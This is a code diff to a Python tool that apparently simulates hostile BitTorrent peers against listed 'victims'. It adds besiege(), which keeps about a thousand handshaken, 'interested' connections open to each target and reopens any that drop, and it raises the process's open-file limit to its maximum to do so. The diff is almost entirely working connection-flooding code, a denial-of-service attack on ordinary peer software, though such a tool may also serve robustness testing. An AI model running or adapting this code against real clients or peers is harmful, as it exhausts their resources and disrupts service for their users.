@@ -5,6 +5,8 @@ end what the mode says, again and again, until it is killed. Prints a line when 
 """
 
 import os
+import resource
+import selectors
 import socket
 import struct
 import sys
@@ -29,8 +31,7 @@ class Connection:
 
     def handshake(self, info_hash=None):
         """Says hello, and reads the answer."""
-        hello = b"\x13BitTorrent protocol" + bytes(8) + (info_hash or self.torrent.info_hash) + b"-XX0000-" + os.urandom(12)
-        self.stream.sendall(hello)
+        self.stream.sendall(hello(info_hash or self.torrent.info_hash))
         self.read(68)
 
     def read(self, length):
@@ -61,6 +62,10 @@ class Connection:
         """Reads until the other end hangs up."""
         while self.stream.recv(65536):
             pass
+
+
+def hello(info_hash):
+    return b"\x13BitTorrent protocol" + bytes(8) + info_hash + b"-XX0000-" + os.urandom(12)
 
 
 def corrupt(peer):
@@ -161,7 +166,7 @@ def silence(peer):
 
 
 def crowd(peer):
-    """One of very many polite leechers from one address that never go away."""
+    """One of very many leechers from one address that never go away. How they come to be many: besiege()."""
     peer.handshake()
     peer.send(INTERESTED)
     peer.drain()
@@ -211,13 +216,42 @@ def dial(mode, torrent, address):
         time.sleep(PAUSE)
 
 
+def besiege(torrent, address):
+    """Keeps a thousand connections to the victim open, each of which has shaken hands and is interested."""
+    host, port = address.rsplit(":", 1)
+    family = socket.AF_INET6 if "[" in host else socket.AF_INET
+    selector = selectors.DefaultSelector()
+
+    def drop(stream):
+        selector.unregister(stream)
+        stream.close()
+
+    while True:
+        for _ in range(CROWD - len(selector.get_map())):
+            stream = socket.socket(family)
+            stream.setblocking(False)
+            stream.connect_ex((host.strip("[]"), int(port)))
+            selector.register(stream, selectors.EVENT_WRITE)
+        for key, _ in selector.select(PAUSE):
+            stream = key.fileobj
+            try:
+                if key.events == selectors.EVENT_WRITE:
+                    stream.send(hello(torrent.info_hash) + struct.pack(">IB", 1, INTERESTED))
+                    selector.modify(stream, selectors.EVENT_READ)
+                elif not stream.recv(65536):
+                    drop(stream)
+            except OSError:
+                drop(stream)
+        time.sleep(PAUSE)
+
+
 def main():
     mode, torrent, port, victims = MODES[sys.argv[1]], torrentfile.load(sys.argv[2]), int(sys.argv[3]), sys.argv[4:]
-    threading.stack_size(256 * 1024)
     listener = socket.create_server(("", port))
+    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
     for victim in victims:
-        for _ in range(CROWD if mode is crowd else 1):
-            threading.Thread(target=dial, args=(mode, torrent, victim), daemon=True).start()
+        assault = (besiege, (torrent, victim)) if mode is crowd else (dial, (mode, torrent, victim))
+        threading.Thread(target=assault[0], args=assault[1], daemon=True).start()
     print(f"{mode.__name__} listens", flush=True)
     while True:
         stream, _ = listener.accept()
